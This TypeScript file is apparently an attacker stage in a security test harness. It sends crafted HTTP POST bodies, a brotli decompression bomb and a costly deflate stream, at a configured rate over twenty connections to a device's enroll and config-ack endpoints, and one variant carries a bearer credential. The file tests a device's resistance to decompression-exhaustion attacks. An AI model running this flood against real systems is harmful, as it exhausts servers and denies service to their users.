import { brotliCompressSync, constants } from 'node:zlib';
import { costlyDeflate } from '../../../support/http/costly-deflate.ts';
import type { Target } from '../stage.ts';
import { inPlace, openMany } from './attacker.ts';

/* Bodies that cost the decoder most for their size, so many a second whatever becomes of them. */
interface Costly extends Target {
  readonly what: 'brotli without a credential' | 'deflate with a credential';
  readonly perSecond: number;
}
const { device, credential, what, perSecond } = JSON.parse(process.argv[2] ?? '') as Costly;
const request = (head: string, body: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`POST ${head}\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n`), body]);
// A window of 16 MiB, which the decoder fills before it gives the first byte.
const few = brotliCompressSync(Buffer.alloc(16 << 20), { params: { [constants.BROTLI_PARAM_LGWIN]: 24 } });
const BYTES = {
  'brotli without a credential': () => request('/device/v1/enroll HTTP/1.1\r\nContent-Encoding: br', few),
  'deflate with a credential': () =>
    request(
      `/device/v1/config/ack HTTP/1.1\r\nContent-Encoding: deflate\r\nAuthorization: Bearer ${credential}`,
      costlyDeflate(65_536),
    ),
};
const bytes = BYTES[what]();
const CONNECTIONS = 20;
await openMany(device, CONNECTIONS, (socket) => {
  const timer = setInterval(() => socket.write(bytes), (1000 * CONNECTIONS) / perSecond);
  socket.once('close', () => clearInterval(timer));
});
inPlace({ bytes: bytes.length });
